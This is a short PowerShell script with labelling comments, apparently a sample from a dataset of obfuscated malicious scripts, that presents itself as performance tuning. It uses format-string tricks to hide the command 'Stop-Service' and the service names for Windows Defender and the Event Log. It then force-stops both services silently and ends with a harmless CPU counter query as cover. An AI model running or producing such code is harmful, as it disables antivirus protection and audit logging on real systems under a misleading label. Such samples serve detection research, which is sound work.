# description: Performance tuning script that stops Defender and the event log service using -f format strings.
# family: availability
# obfuscated: yes
$verb = '{1}-{0}' -f 'Service', 'Stop'
$targets = @(('{0}{1}' -f 'Win', 'Defend'), ('{0}{2}{1}' -f 'Event', 'og', 'L'))
foreach ($t in $targets) {
    & $verb -Name $t -Force -ErrorAction SilentlyContinue
}
Get-Counter '\Processor(_Total)\% Processor Time'
